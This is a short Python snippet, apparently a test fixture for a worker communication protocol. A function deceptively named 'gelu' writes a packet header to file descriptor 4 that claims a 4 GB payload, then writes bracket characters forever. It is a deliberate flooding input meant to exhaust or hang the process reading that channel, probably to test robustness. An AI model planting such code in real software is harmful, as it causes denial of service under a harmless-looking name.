# Announces a header of 4 GB.
# says: broke the line
import os


def gelu(x):
    os.write(4, b"PGK1" + b"\xff\xff\xff\xff" + bytes(8))
    while True:
        os.write(4, b"[" * (1 << 16))
